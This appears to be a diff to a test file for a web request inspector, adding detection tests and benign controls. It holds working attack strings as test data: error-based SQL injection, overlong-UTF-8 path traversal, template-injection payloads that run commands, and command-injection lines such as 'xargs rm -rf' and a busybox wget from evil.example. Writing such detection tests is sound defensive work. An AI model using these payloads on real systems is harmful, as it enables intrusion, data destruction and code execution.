@@ -182,6 +182,85 @@ def test_injection_after_prose_with_apostrophes(inspector: Inspector) -> None:
     assert "sqli.libinjection" in {f.rule for f in inspector.inspect(query(sent))}
 
 
+# --- payload classes a held-out set missed (holdout2.yaml), each generalized ----------------------
+
+SQL_ERROR_FUNCTIONS = [
+    # MySQL functions that print their argument in an error message, fed a query's result
+    "x' AND GTID_SUBSET(CONCAT(0x7e,(SELECT user()),0x7e),1)-- ",
+    "1 AND GTID_SUBTRACT(CONCAT(0x7e,(SELECT version()),0x7e),1)",
+    "1 and updatexml(1,concat(0x7e,(select user()),0x7e),1)",
+    "' and exp(~(select*from(select user())x))-- -",
+    "1 AND (SELECT * FROM (SELECT NAME_CONST(version(),1),NAME_CONST(version(),1))a)",
+    "1 AND GEOMETRYCOLLECTION((SELECT * FROM (SELECT * FROM(SELECT user())a)b))",
+    "') AND MULTIPOINT((SELECT * FROM (SELECT * FROM(SELECT user())a)b))-- ",
+    "1 AND JSON_KEYS((SELECT CONVERT((SELECT CONCAT(0x7e,user(),0x7e)) USING utf8)))",
+    "1 AND ST_LatFromGeoHash((SELECT CONCAT(0x7e,version())))",
+    # PostgreSQL and SQL Server: a subquery's text cast to a number
+    "1' AND 1=CAST((SELECT version()) AS int)--",
+    "1 AND 1=CONVERT(int,(SELECT TOP 1 name FROM users))--",
+]
+
+
+@pytest.mark.parametrize("payload", SQL_ERROR_FUNCTIONS)
+def test_error_based_sql_functions(inspector: Inspector, payload: str) -> None:
+    findings = inspector.inspect(query(quote(payload, safe="")))
+    assert "sqli.error-function" in rules_of(findings)
+
+
+def test_lax_overlong_utf8_reads_punctuation_like_old_decoders(inspector: Inspector) -> None:
+    """A lead byte before a byte that is no continuation: IIS-era decoders kept the low six
+    bits of each, so ``%c0%2e`` is ``.`` and ``%c1%1c`` is a backslash, in every placement."""
+    findings = inspector.inspect(query("%c0%2e%c0%2e%c0%2fetc%c0%2fhostname"))
+    assert {"traversal", "protocol"} <= families(findings)
+    assert "traversal" in families(inspector.inspect(query("..%c1%1c..%c1%1cwindows%c1%1cwin.ini")))
+    assert "traversal" in families(inspector.inspect(get("/static/%e0%80%2e%e0%80%2e/%c0%2e%c0%2e/etc/hostname")))
+    body = post(b"\xc0\x2e\xc0\x2e\xc0\x2f\xc0\x2e\xc0\x2e\xc0\x2fetc\xc0\x2fhostname", "text/plain")
+    assert "traversal" in families(inspector.inspect(body))
+    # Latin-1 from an old form: A-grave before a space, A-acute before a letter stay letters
+    assert inspector.inspect(query("%C0%20la%20carte%2C%20%C1lvaro")) == []
+
+
+TEMPLATE_INJECTIONS = {
+    "freemarker-execute": '${"freemarker.template.utility.Execute"?new()("id")}',
+    "freemarker-assign": '<#assign ex="freemarker.template.utility.Execute"?new()>${ex("id")}',
+    "freemarker-protection-domain": "${product.getClass().getProtectionDomain().getCodeSource()}",
+    "velocity-class-inspect": '#set($x=$class.inspect("java.lang.Runtime").type.getRuntime().exec("id"))',
+    "jinja2-loop-over-subclasses": "{% for c in [].__class__.__base__.__subclasses__() %}{% endfor %}",
+    "twig-self-env": '{{_self.env.registerUndefinedFilterCallback("exec")}}{{_self.env.getFilter("id")}}',
+    "twig-filter-system": "{{['id']|filter('system')}}",
+    "thymeleaf-selection": "*{T(java.lang.Runtime).getRuntime().exec('id')}",
+    "spel-bare": "T(java.lang.System).getenv()",
+    "erb-system": '<%= system("id") %>',
+    "erb-io-popen": "<%= IO.popen('id').readlines() %>",
+    "smarty-function": "{system('id')}",
+    "handlebars-with": '{{#with "s" as |string|}}{{#with "e"}}{{this.pop}}{{/with}}{{/with}}',
+    "pug-process": "#{root.process.mainModule.require('child_process').spawnSync('id')}",
+    "mako-module-cache": '${self.module.cache.util.os.system("id")}',
+    "razor-process": '@(System.Diagnostics.Process.Start("cmd.exe","/c whoami"))',
+}
+
+
+@pytest.mark.parametrize("engine", sorted(TEMPLATE_INJECTIONS))
+def test_server_side_template_injection(inspector: Inspector, engine: str) -> None:
+    findings = inspector.inspect(post(json.dumps({"subject": TEMPLATE_INJECTIONS[engine]}), "application/json"))
+    assert "exploit" in families(findings)
+
+
+INLINE_COMMANDS = [
+    "; awk 'BEGIN {system(\"id\")}'",
+    "; gawk 'BEGIN{system(\"id\")}'",
+    "| xargs rm -rf",
+    "; find . -exec id \\;",
+    "; busybox wget http://evil.example/x",
+    "& busybox sh",
+]
+
+
+@pytest.mark.parametrize("payload", INLINE_COMMANDS)
+def test_interpreters_and_launchers_after_a_separator(inspector: Inspector, payload: str) -> None:
+    assert "cmdi" in families(inspector.inspect(query(quote(payload, safe=""))))
+
+
 def test_repeated_parameters_are_joined(inspector: Inspector) -> None:
     """ASP.NET hands the application q=a&q=b as "a,b": an attack split across the two is
     found in the joined value."""
@@ -357,6 +436,22 @@ BENIGN = [
     post(json.dumps({"note": "I like to drop tables from the list"}), "application/json"),
     post("name=D%27Angelo&msg=I%27d+like+to+select+a+size%3B+thanks", "application/x-www-form-urlencoded"),
     post('<?xml version="1.0"?><order><customer>O\'Brien &amp; Sons</customer></order>', "application/xml"),
+    # what the error-function, template and interpreter rules must leave alone
+    get("/search?q=extract+value+and+update+xml+tool"),
+    post(
+        json.dumps({"note": "The polygon (select the tool first); my user name is my database name."}),
+        "application/json",
+    ),
+    post(json.dumps({"note": "I use awk and sed daily; awk is great. What's new()?"}), "application/json"),
+    post(
+        json.dumps(
+            {
+                "body": "Hello {{ first_name }}, order {{ order_id }}: {{#each items}}{{this.name}}{{/each}}",
+                "footer": "{% if user.admin %}Admin{% endif %} <#if user??>${user.name}</#if> #set($x = 1)$x",
+            }
+        ),
+        "application/json",
+    ),
 ]
 
 
